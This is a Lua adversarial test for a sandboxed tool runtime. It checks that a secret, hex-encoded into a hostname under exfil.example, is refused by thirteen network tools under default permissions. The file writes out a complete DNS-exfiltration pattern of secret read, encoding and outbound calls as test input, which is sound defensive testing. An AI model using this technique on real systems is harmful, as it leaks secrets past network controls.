-- adversarial: exfiltrate a secret through DNS with every network tool, under the default permissions
-- run: run --allow-read={{OUTSIDE}} {{SCRIPT}}
-- exit: 0
-- The script may read the secret here, but the default network
-- permission is loopback only: a name carrying the secret hex-encoded must
-- be refused without a lookup, so the DNS stub never hears of it.
local secret = Tool.invoke("file_operations", {operation = "read", path = "{{SECRET}}"}).content
local hex = secret:gsub("%s+$", ""):gsub(".", function(c) return string.format("%02x", c:byte()) end)
local name = hex:sub(1, 60) .. ".exfil.example"
local url = "http://" .. name .. "/x"
local calls = {
  {"http_request", {input = url}},
  {"api-tester", {input = url}},
  {"webhook-caller", {input = url, payload = {}, max_retries = 0}},
  {"graphql_query", {endpoint = url, input = "{ x }"}},
  {"web-scraper", {input = url}},
  {"webpage-monitor", {input = url}},
  {"sitemap-crawler", {input = url}},
  {"url-analyzer", {input = url, fetch_metadata = true}},
  {"service_checker", {target = url, check_type = "http"}},
  {"service_checker", {target = name .. ":80", check_type = "tcp"}},
  {"service_checker", {target = name, check_type = "dns"}},
  {"http_request", {input = "https://" .. name .. ":443/"}},
  {"http_request", {input = "http://" .. name .. "./"}},
}
for _, c in ipairs(calls) do
  local r, err = Tool.try(c[1], c[2])
  assert(r == nil, c[1] .. " reached " .. name)
  assert(err.type == "permission_denied", c[1] .. ": want permission_denied, got " .. err.type)
end
print("refused " .. #calls .. " calls")
